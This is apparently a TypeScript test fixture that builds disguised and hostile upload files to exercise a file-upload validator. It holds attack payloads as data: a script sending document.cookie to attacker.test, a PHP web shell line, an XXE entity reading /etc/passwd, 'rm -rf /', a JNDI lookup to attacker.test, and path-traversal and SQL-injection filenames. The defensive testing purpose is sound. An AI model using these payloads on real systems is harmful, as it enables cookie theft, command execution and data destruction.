import { EICAR } from "@/lib/infra/testing/fake-clamd";
import type { HostileFile } from "./hostile-file";
import { chunk, emptyZip, pdf, screenshot } from "./hostile-files";

const SCRIPT = "<script>fetch('//attacker.test/'+document.cookie)</script>";
const HTML = `<!doctype html><html>${SCRIPT}</html>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`;

function segment(marker: number, text: string): Buffer {
  const body = Buffer.from(text, "latin1");
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([head, body]);
}

const into = (jpeg: Buffer, part: Buffer) => Buffer.concat([jpeg.subarray(0, 2), part, jpeg.subarray(2)]);
const intoPng = (png: Buffer, part: Buffer) => Buffer.concat([png.subarray(0, 33), part, png.subarray(33)]);
const utf16 = (text: string) => Buffer.concat([Buffer.from("fffe", "hex"), Buffer.from(text, "utf16le")]);

/** Other things than they say: pages, drawings with scripts, programs and archives, alone or inside of pictures. */
async function disguises(): Promise<[string, Buffer | string][]> {
  const [jpeg, png, webp] = [await screenshot("jpeg", 61), await screenshot("png", 62), await screenshot("webp", 63)];
  const inside = [HTML, SVG, SCRIPT, "<?php system($_GET[0]); ?>", "<iframe src=//attacker.test>", "%PDF-1.7", EICAR];
  return [
    ...inside.map((text): [string, Buffer] => [`JPEG with a comment ${text}`, into(jpeg, segment(0xfe, text))]),
    ...inside.map((text): [string, Buffer] => [
      `JPEG with ${text} in EXIF`,
      into(jpeg, segment(0xe1, `Exif\0\0${text}`)),
    ]),
    ...inside.map((text): [string, Buffer] => [
      `PNG with ${text}`,
      intoPng(png, chunk("tEXt", Buffer.from(`Title\0${text}`))),
    ]),
    ...inside.map((text): [string, Buffer] => [`JPEG and then ${text}`, Buffer.concat([jpeg, Buffer.from(text)])]),
    ...inside.map((text): [string, Buffer] => [`WebP and then ${text}`, Buffer.concat([webp, Buffer.from(text)])]),
    [
      "JPEG with markup far inside",
      into(jpeg, Buffer.concat([segment(0xef, "x".repeat(60_000)), segment(0xfe, HTML)])),
    ],
    ["JPEG and a zip", Buffer.concat([jpeg, emptyZip])],
    ["PNG and a zip", Buffer.concat([png, emptyZip])],
    ["PDF and a zip", Buffer.concat([pdf(), emptyZip])],
    ["PDF with a page around it", `%PDF-1.7 ${HTML}\n%%EOF`],
    ["a page", HTML],
    ["a page in UTF-16", utf16(HTML)],
    ["a page after blank lines", `\n\n \t${HTML}`],
    ["a page after a mark of order", `\ufeff${HTML}`],
    ["a drawing with a script", SVG],
    [
      "a drawing behind an XML head",
      `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${SVG}`,
    ],
    ["a drawing in UTF-16", utf16(SVG)],
    ["a script that is a GIF", "GIF89a=1;alert(1)//"],
    ["a saved mail page", "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\n"],
    ["a program", Buffer.concat([Buffer.from("MZ"), Buffer.alloc(500)])],
    ["a Linux program", Buffer.from("7f454c4602010100", "hex")],
    ["a shell script", "#!/bin/sh\nrm -rf /\n"],
    ["a shortcut", Buffer.from("4c0000000114020000000000c000000000000046", "hex")],
    ["a zip", emptyZip],
    ["an old Word file", Buffer.from("d0cf11e0a1b11ae1", "hex")],
    ["a gzip", Buffer.from("1f8b0800000000000003", "hex")],
    ["the test virus", EICAR],
    ["a film", Buffer.from("\0\0\0\x18ftypmp42\0\0\0\0mp42isom", "latin1")],
    ["a HEIC photo", Buffer.from("\0\0\0\x24ftypheic\0\0\0\0mif1heic", "latin1")],
    ["a bitmap", Buffer.from("BM\x3a\0\0\0\0\0\0\0\x36\0\0\0", "latin1")],
    ["nothing", Buffer.alloc(0)],
    ["one byte", Buffer.from([0xff])],
    ["zeros", Buffer.alloc(100_000)],
  ];
}

const NAMES = [
  "photo\u202egnp.exe",
  "照".repeat(1_000),
  "../../../../etc/cron.d/x.png",
  "..\\..\\windows\\system32\\x.png",
  "/etc/passwd",
  "C:\\x.png",
  "x.png\0.html",
  "x.png\r\nSet-Cookie: a=b",
  '"><script>alert(1)</script>.png',
  "CON.png",
  "x.svg",
  "x.html",
  ".htaccess",
  "",
  " ",
  "\u200b\ufeff.png",
  "a".repeat(100_000),
  "\ud800.png",
  "$\u007bjndi:ldap://attacker.test}.png",
  "'; DROP TABLE evidence; --.png",
];

/** Disguised files, and harmless pictures under names that were made to do harm. */
export async function hostileDisguises(): Promise<HostileFile[]> {
  const files = (await disguises()).map(([what, bytes], n) => {
    return { what, name: `disguise-${n}.jpg`, bytes: Buffer.from(bytes) };
  });
  const picture = await screenshot("png", 64);
  return [...files, ...NAMES.map((name) => ({ what: `a picture called ${name.slice(0, 40)}`, name, bytes: picture }))];
}
